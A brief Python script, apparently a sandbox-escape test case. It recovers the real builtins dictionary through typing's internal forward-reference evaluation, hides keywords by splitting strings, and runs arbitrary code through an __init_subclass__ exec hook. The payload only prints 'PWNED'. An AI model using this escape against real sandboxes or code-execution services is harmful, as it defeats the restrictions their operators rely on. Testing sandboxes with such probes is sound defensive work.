# reflect: __init_subclass__ = exec keyword hook called by type()
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

class Base:
    __init_subclass__ = classmethod(lambda cls, **kw: rb["exec"](kw["src"]))
try:
    class Sub(Base, src="print('PWN' + 'ED')"):
        pass
except Exception as e:
    print("refused:", type(e).__name__, e)
